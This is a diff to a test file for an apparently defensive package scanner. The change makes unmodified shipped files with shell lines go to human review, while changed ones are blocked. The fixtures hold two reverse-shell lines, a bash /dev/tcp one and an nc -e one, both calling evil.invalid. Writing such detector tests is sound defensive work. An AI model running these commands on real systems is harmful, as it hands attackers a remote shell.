@@ -222,7 +222,7 @@ test(`${ID}: says the line`, () => {
   assert.equal(finding?.evidence, 'bash -i >& /dev/tcp/evil.invalid/4444 0>&1');
 });
 
-test(`${ID}: a file just as its package shipped it is trusted, a changed one is not`, () => {
+test(`${ID}: a file just as its package shipped it is for a person to judge, a changed one is refused`, () => {
   const content = '#!/bin/sh\nnc evil.invalid 1 -e /bin/sh\n';
   const md5 = '5cf2d0c5bd6dff6ff7ab0dbb5ea2c0c9';
   const cataloger = (hex: string): AnyCataloger => ({
@@ -239,7 +239,7 @@ test(`${ID}: a file just as its package shipped it is trusted, a changed one is 
       ]).findings,
     );
   assert.deepEqual(inspect(md5), [`block ${ID} usr/share/tool/x.sh`]);
-  assert.deepEqual(inspect(md5Of(content)), []);
+  assert.deepEqual(inspect(md5Of(content)), [`review ${ID} usr/share/tool/x.sh`]);
 });
 
 function packageOf(hex: string): PackageWithFiles {
